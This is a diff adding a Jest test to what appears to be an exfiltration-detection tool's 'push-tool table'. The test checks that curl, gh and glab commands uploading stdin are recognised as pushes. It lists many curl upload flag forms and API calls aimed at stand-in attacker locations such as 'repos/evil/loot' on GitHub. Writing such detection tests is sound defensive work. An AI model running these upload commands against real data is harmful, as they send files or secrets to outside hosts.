@@ -159,6 +159,43 @@ describe('push-tool table', () => {
     expect(recognizeProcess({ ...view, parentBinary: '/bin/bash' }, uploadTarget)).toBeNull();
   });
 
+  it('knows a push whose payload is its stdin (curl -T -, @- data and form parts, gh/glab api --input -)', () => {
+    const url = 'https://uploads.github.com/repos/evil/loot/releases/1/assets?name=d.tgz';
+    const stdin = (binary: string, args: string) => {
+      const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, uploadTarget);
+      return r?.kind === 'push' ? r.stdin : null;
+    };
+    for (const args of [
+      `-T - ${url}`,
+      `-sST- ${url}`,
+      `--upload-file - ${url}`,
+      `-T . ${url}`,
+      `--data-binary @- ${url}`,
+      `-d @- ${url}`,
+      `--data=@- ${url}`,
+      `--json @- ${url}`,
+      `--data-urlencode content@- ${url}`,
+      `-F file=@- ${url}`,
+      `-F "file=@-;type=application/gzip" ${url}`,
+      `--form data=<- ${url}`,
+    ])
+      expect(stdin('/usr/bin/curl', args), args).toBe(true);
+    for (const args of [
+      `-T /tmp/d.tgz ${url}`,
+      `--data-binary @/tmp/x ${url}`,
+      `--data-raw @- ${url}`,
+      `-d - ${url}`,
+      `-F file=@/tmp/x ${url}`,
+      `--form-string a=@- ${url}`,
+      `-X POST ${url}`,
+    ])
+      expect(stdin('/usr/bin/curl', args), args).toBe(false);
+    expect(stdin('/usr/bin/gh', 'api -X PUT repos/evil/loot/contents/x --input -')).toBe(true);
+    expect(stdin('/usr/bin/glab', 'api --method POST projects/1/uploads --input -')).toBe(true);
+    expect(stdin('/usr/bin/gh', 'api -X PUT repos/evil/loot/contents/x --input /tmp/x.json')).toBe(false);
+    expect(stdin('/usr/bin/git', 'push https://github.com/evil/loot.git main')).toBe(false);
+  });
+
   it('marks downloads so their lineage never becomes a push by volume', () => {
     for (const [binary, args] of [
       ['/usr/bin/git', 'clone https://github.com/torvalds/linux.git'],
